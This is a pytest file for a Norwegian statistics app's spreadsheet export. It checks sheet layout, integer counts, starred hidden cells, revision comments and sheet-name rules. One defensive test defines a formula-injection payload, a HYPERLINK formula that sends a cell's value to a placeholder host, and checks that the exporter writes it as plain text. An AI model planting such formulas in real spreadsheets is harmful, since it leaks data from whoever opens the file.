"""The spreadsheet: a cover, one sheet per table per scheme, numbers as numbers, `*` for hidden."""

from __future__ import annotations

import copy
import io
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from tallrapport.reports.render.html import HIDDEN_NOTE
from tallrapport.reports.render.xlsx import SHEET_NAME_MAX, render_xlsx, sheet_name
from tallrapport.reports.report import NOT_APPLICABLE, REVISED, Report
from tests.reports.render_samples import rolled_back, small_report

pytestmark = pytest.mark.django_db

HEADER_ROW = 3


@pytest.fixture(scope="module")
def report(django_db_setup: None, django_db_blocker: Any) -> Iterator[Report]:
    with rolled_back(django_db_blocker):
        yield small_report()


@pytest.fixture(scope="module")
def workbook(report: Report) -> Workbook:
    return load_workbook(io.BytesIO(render_xlsx(report)))


def _sheets(report: Report, workbook: Workbook) -> list[tuple[Any, Any]]:
    """(table, sheet) in report order; the cover is the first sheet."""
    tables = [t for s in report.sections for t in s.tables.values()]
    return list(zip(tables, workbook.worksheets[1:-1], strict=True))


def test_a_cover_then_one_sheet_per_table_per_scheme(report: Report, workbook: Workbook) -> None:
    # then the first sheet is the cover and every table of both schemes has its own sheet
    tables = sum(len(s.tables) for s in report.sections)
    assert workbook.sheetnames[0] == "Om rapporten"
    assert len(workbook.sheetnames) == 1 + tables + 1  # the cover, the tables, the text
    assert "MR kategori" in workbook.sheetnames
    assert "SU landbakgrunn" in workbook.sheetnames
    assert all(len(name) <= SHEET_NAME_MAX for name in workbook.sheetnames)
    cover = [c for row in workbook["Om rapporten"].iter_rows(values_only=True) for c in row if c]
    assert report.year in cover
    assert HIDDEN_NOTE in cover


def test_numbers_are_ints_hidden_cells_are_stars(report: Report, workbook: Workbook) -> None:
    for table, sheet in _sheets(report, workbook):
        # then the header row names the columns, the header is frozen
        header = [c.value for c in sheet[HEADER_ROW]]
        assert header == [table.definition.row_title, *table.header()]
        assert sheet.freeze_panes == f"B{HEADER_ROW + 1}"
        hidden = 0
        for offset, (_code, label, cells) in enumerate(table.body(), start=1):
            row = [c.value for c in sheet[HEADER_ROW + offset]]
            assert row[0] == label
            for source, written in zip(cells, row[1:], strict=True):
                # and each count is stored as an int, each hidden one as the text "*"
                if source.status == NOT_APPLICABLE:
                    assert written == "–"  # the category did not exist that year
                elif source.value is None:
                    assert written == "*"
                    hidden += 1
                else:
                    assert type(written) is int
                    assert written == source.value
        # and the footnote stands under a table that hides something
        values = [c for r in sheet.iter_rows(values_only=True) for c in r]
        assert (HIDDEN_NOTE in values) == (hidden > 0)


def test_revised_cells_carry_a_comment_with_the_earlier_number(
    report: Report, workbook: Workbook
) -> None:
    commented = 0
    for table, sheet in _sheets(report, workbook):
        for offset, (_code, _label, cells) in enumerate(table.body(), start=1):
            for column, source in enumerate(cells, start=2):
                comment = sheet.cell(row=HEADER_ROW + offset, column=column).comment
                if source.note == REVISED and source.value is not None:
                    assert comment is not None
                    for title, old in source.previous:
                        assert f"{old} ({title})" in comment.text
                    commented += 1
    assert commented == len(report.revisions) > 0


@given(
    st.lists(
        st.tuples(
            st.sampled_from(["mangfoldsradgiver", "spesialutsending", "x"]),
            st.text(min_size=1, max_size=60),
        ),
        max_size=30,
    )
)
def test_sheet_names_are_short_legal_and_unique(pairs: list[tuple[str, str]]) -> None:
    # given any table keys, even long ones with characters Excel forbids
    taken = {"om rapporten"}
    names = [sheet_name(scheme, key, taken) for scheme, key in pairs]
    # then every name fits, has no forbidden character, and none repeats
    for name in names:
        assert len(name) <= SHEET_NAME_MAX
        assert not set(name) & set("[]:*?/\\")
    assert len({n.lower() for n in names}) == len(names)


HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Klikk her")'


def with_hostile_labels(report: Report) -> Report:
    """The report with every row label typed as a formula (labels come from
    classifications an administrator can rename)."""
    hostile = copy.deepcopy(report)
    for section in hostile.sections:
        for table in section.tables.values():
            table.rows = [(code, HOSTILE) for code, _label in table.rows]
    return hostile


def test_typed_text_that_looks_like_a_formula_is_written_as_text(report: Report) -> None:
    # given a report whose row labels start like a formula
    hostile = with_hostile_labels(report)
    # when it is written as a spreadsheet
    workbook = load_workbook(io.BytesIO(render_xlsx(hostile)))
    # then no cell is a formula, the labels are there as quoted text, the counts numbers
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + HOSTILE in {cell.value for cell in cells}
    first_table = workbook.worksheets[1]
    assert isinstance(first_table.cell(row=HEADER_ROW + 1, column=2).value, int | str)
    assert first_table.cell(row=HEADER_ROW + 1, column=1).value == "'" + HOSTILE
